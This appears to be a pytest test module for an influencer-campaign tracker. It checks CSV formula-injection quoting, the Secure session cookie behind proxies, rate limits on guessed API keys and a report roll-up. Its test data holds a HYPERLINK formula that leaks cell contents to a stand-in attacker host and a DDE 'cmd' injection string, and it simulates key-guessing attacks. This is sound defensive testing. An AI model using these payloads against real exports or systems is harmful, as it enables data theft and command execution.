"""Edges an attacker or a careless client reaches: formulas in CSV exports, the session cookie behind
HTTPS proxies, guessing API keys, and what a roll-up says it read; over real HTTP."""

from __future__ import annotations

import csv
import html
import io
import logging
import re
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from tracker import csvsafe, keys

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'
TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
ATTACKER, OTHER = "203.0.113.7", "198.51.100.20"


def sign_in(base: str, key: str, headers: dict[str, str] | None = None) -> tuple[requests.Session, requests.Response]:
    """A browser's dashboard sign-in: the form (and its CSRF token), then the key."""
    s = requests.Session()
    s.headers.update(headers or {})
    token = html.unescape(TOKEN.search(s.get(f"{base}/dashboard/login").text).group(1))
    resp = s.post(f"{base}/dashboard/login", data={"api_key": key, "csrf_token": token}, allow_redirects=False)
    return s, resp


# -- CSV injection --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-e5", "'-e5"),  # not a number: minus cell E5
        ("-12.00 EUR", "'-12.00 EUR"),
        ("-12.50", "-12.50"),
        ("-1,234.50", "-1,234.50"),
        ("-15.75%", "-15.75%"),
        ("+42", "+42"),
        ("-1e3", "-1e3"),
        (-1250, -1250),
        (None, None),
        ("Spring sale", "Spring sale"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_numbers_stay(value: Any, written: Any):
    assert csvsafe.cell(value) == written


def promote_jane(api, campaign: dict[str, Any]) -> None:
    """@jane, on Instagram, in a long-running promotion of `campaign` with a flat fee of 12.50."""
    inf = api.create("/influencers", handle="jane", platform="instagram", followers=50_000)
    api.create("/promotions", campaign_id=campaign["id"], influencer_id=inf["id"], style="long_running",
               posted_at="2026-03-02T12:00:00Z", cost={"flat_fee": 1250})  # fmt: skip


def test_the_api_report_csv_quotes_a_formula_name_and_keeps_negative_numbers(api):
    camp = api.create(
        "/campaigns", name=FORMULA, slug="prize", destination_url="https://shop.example/", starts_on="2026-03-01"
    )
    promote_jane(api, camp)
    as_json = api.get("/reports", params={"by": "campaign"}).json()["rows"][0]
    resp = api.get("/reports", params={"by": "campaign", "format": "csv"})
    row = next(csv.DictReader(io.StringIO(resp.text)))
    assert row["name"] == "'" + FORMULA
    assert as_json["roi"].startswith("-") and row["roi"] == as_json["roi"]  # -1.0000: a number, untouched
    assert row["spend"] == "1250"
    by_promotion = next(csv.DictReader(io.StringIO(api.get("/reports", params={"format": "csv"}).text)))
    assert by_promotion["name"] == f"'@jane in {FORMULA}"


def test_the_dashboard_csv_quotes_text_cells_and_keeps_numbers(server, api):
    camp = api.create(
        "/campaigns", name="Spring", slug="spring", destination_url="https://shop.example/", starts_on="2026-03-01"
    )
    promote_jane(api, camp)
    d, resp = sign_in(server.url, api.key)
    assert resp.status_code == 303
    header, row = list(csv.reader(io.StringIO(d.get(f"{server.url}/dashboard/influencers?format=csv").text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["Influencer"] == "'@jane (instagram)"  # '@' starts a formula in Excel
    assert cells["Spend (USD)"] == "12.50" and cells["ROI"] == "-100.00%"
    d.close()


# -- the session cookie behind proxies ------------------------------------------------------
@pytest.mark.parametrize(
    ("proxies", "proto", "secure"),
    [
        (1, "https", True),  # the one proxy says the visitor came over HTTPS
        (0, "https", False),  # no proxy configured: the header is anyone's, ignored
        (1, "https, http", False),  # the client's own 'https' before the proxy's 'http': not trusted
        (2, "https", True),  # a CDN in front of nginx: nginx sets (not appends) the scheme it was told
        (2, "https, http", False),  # the nearest proxy's word is the one that counts
        (1, None, False),
    ],
)
def test_the_session_cookie_is_secure_when_the_trusted_proxy_saw_https(
    make_server_with, new_brand, proxies: int, proto: str | None, secure: bool
):
    live = make_server_with(PROXY_COUNT=proxies)
    api = new_brand(base=live.url)
    headers = {"X-Forwarded-Proto": proto} if proto else {}
    form = requests.get(f"{live.url}/dashboard/login", headers=headers)
    token = html.unescape(TOKEN.search(form.text).group(1))
    cookie = form.headers["Set-Cookie"]
    assert ("; Secure" in cookie) is secure
    # A Secure cookie is not sent back over plain HTTP by a client: send it as the browser would over HTTPS.
    session = form.cookies["session"]
    signed_in = requests.post(
        f"{live.url}/dashboard/login",
        data={"api_key": api.key, "csrf_token": token},
        headers={**headers, "Cookie": f"session={session}"},
        allow_redirects=False,
    )
    assert signed_in.status_code == 303
    assert ("; Secure" in signed_in.headers["Set-Cookie"]) is secure


# -- guessing API keys ----------------------------------------------------------------------
def _bearer(live, key: str, address: str, hops: str = "") -> requests.Response:
    forwarded = f"{hops}, {address}" if hops else address  # what our one proxy appends is last
    return requests.get(
        f"{live.url}/api/v1/brand", headers={"Authorization": f"Bearer {key}", "X-Forwarded-For": forwarded}
    )


def test_wrong_keys_from_one_address_get_429_and_other_addresses_are_unaffected(make_server_with, new_brand, r, caplog):
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=5)
    api = new_brand(base=live.url)
    caplog.set_level(logging.INFO, logger="tracker.auth")
    assert [_bearer(live, f"il_guess{i}", ATTACKER).status_code for i in range(5)] == [401] * 5
    blocked = _bearer(live, "il_guess5", ATTACKER)
    assert blocked.status_code == 429
    assert blocked.json()["code"] == 429 and "too many wrong API keys" in blocked.json()["message"]
    assert 1 <= int(blocked.headers["Retry-After"]) <= 60
    # While blocked, a key never used from the address is refused, right or wrong: a guess is never confirmed.
    assert _bearer(live, api.key, ATTACKER).status_code == 429
    # Everyone else: valid keys work, wrong ones are plain 401s.
    assert _bearer(live, api.key, OTHER).status_code == 200
    assert _bearer(live, "il_typo", OTHER).status_code == 401
    assert 0 < r.ttl(keys.auth_failures(ATTACKER)) <= 60
    logged = [rec for rec in caplog.records if rec.name == "tracker.auth"]
    assert sum(ATTACKER in rec.getMessage() for rec in logged) == 5
    assert any(rec.levelno == logging.WARNING and ATTACKER in rec.getMessage() for rec in logged)
    r.delete(keys.auth_failures(ATTACKER))  # the minute is over
    assert _bearer(live, api.key, ATTACKER).status_code == 200


def test_a_valid_key_already_used_from_a_blocked_address_keeps_working(make_server_with, new_brand, r):
    """The brand's own client behind the attacked address (an office NAT) is not locked out."""
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=3)
    api, other = new_brand(base=live.url), new_brand(base=live.url)
    assert _bearer(live, api.key, ATTACKER).status_code == 200  # before the attack
    assert [_bearer(live, f"il_guess{i}", ATTACKER).status_code for i in range(4)] == [401, 401, 401, 429]
    assert [_bearer(live, api.key, ATTACKER).status_code for _ in range(3)] == [200] * 3
    assert _bearer(live, other.key, ATTACKER).status_code == 429  # valid, but first seen during the block
    assert _bearer(live, "il_guess9", ATTACKER).status_code == 429


def test_successful_keys_count_nothing(make_server_with, new_brand, r):
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=5)
    api = new_brand(base=live.url)
    assert [_bearer(live, api.key, ATTACKER).status_code for _ in range(10)] == [200] * 10
    assert not r.exists(keys.auth_failures(ATTACKER))


def test_spoofed_forwarded_hops_do_not_escape_the_limit(make_server_with, new_brand, r):
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=3)
    new_brand(base=live.url)
    codes = [_bearer(live, "il_guess", ATTACKER, hops=f"10.0.0.{i}").status_code for i in range(5)]
    assert codes == [401, 401, 401, 429, 429]
    assert r.get(keys.auth_failures(ATTACKER)) == b"3"


def test_an_ipv6_client_is_counted_by_its_64(make_server_with, new_brand, r):
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=3)
    api = new_brand(base=live.url)
    codes = [_bearer(live, "il_guess", f"2001:db8:1:2::{i:x}").status_code for i in range(1, 5)]
    assert codes == [401, 401, 401, 429]
    assert r.get(keys.auth_failures("2001:db8:1:2::/64")) == b"3"
    assert _bearer(live, api.key, "2001:db8:1:3::1").status_code == 200  # the next /64: someone else


def test_without_proxies_the_forwarded_address_is_ignored(make_server_with, new_brand, r):
    live = make_server_with(PROXY_COUNT=0, AUTH_FAILURES_PER_MINUTE=3)
    new_brand(base=live.url)
    assert [_bearer(live, "il_guess", f"10.0.0.{i}").status_code for i in range(4)] == [401, 401, 401, 429]
    assert r.get(keys.auth_failures("127.0.0.1")) == b"3"


def test_dashboard_sign_ins_share_the_limit_with_the_api(make_server_with, new_brand):
    live = make_server_with(PROXY_COUNT=1, AUTH_FAILURES_PER_MINUTE=3)
    api = new_brand(base=live.url)
    attacker = {"X-Forwarded-For": ATTACKER}
    statuses = []
    for i in range(4):
        s, resp = sign_in(live.url, f"il_guess{i}", attacker)
        statuses.append(resp.status_code)
        s.close()
    assert statuses == [401, 401, 401, 429]
    assert 1 <= int(resp.headers["Retry-After"]) <= 60 and "Too many wrong API keys" in html.unescape(resp.text)
    assert _bearer(live, api.key, ATTACKER).status_code == 429
    s, resp = sign_in(live.url, api.key, attacker)
    assert resp.status_code == 429
    assert s.get(f"{live.url}/dashboard/", allow_redirects=False).status_code == 303  # not signed in
    s.close()
    s, resp = sign_in(live.url, api.key, {"X-Forwarded-For": OTHER})
    assert resp.status_code == 303
    s.close()


# -- the roll-up's result -------------------------------------------------------------------
def test_the_rollup_result_counts_the_events_it_read(api, server, visitor, burst_worker):
    link = api.link()
    tids = []
    for _ in range(3):
        resp = visitor.get(f"{server.url}/{link['code']}", allow_redirects=False)
        tids.append(parse_qs(urlsplit(resp.headers["Location"]).query)["tid"][0])
    order = {"order_id": "EV-1", "amount": 2500, "currency": "USD", "click_id": tids[0]}
    assert api.post("/conversions", json=order).status_code in (200, 201)

    def rollup() -> dict[str, Any]:
        job_id = api.post("/reports/refresh").json()["job_id"]
        burst_worker()
        return api.get(f"/reports/jobs/{job_id}").json()["result"]

    first = rollup()
    assert (first["clicks"], first["conversions"], first["events_read"]) == (3, 1, 4)
    again = rollup()
    assert (again["clicks"], again["conversions"], again["events_read"]) == (0, 0, 0)
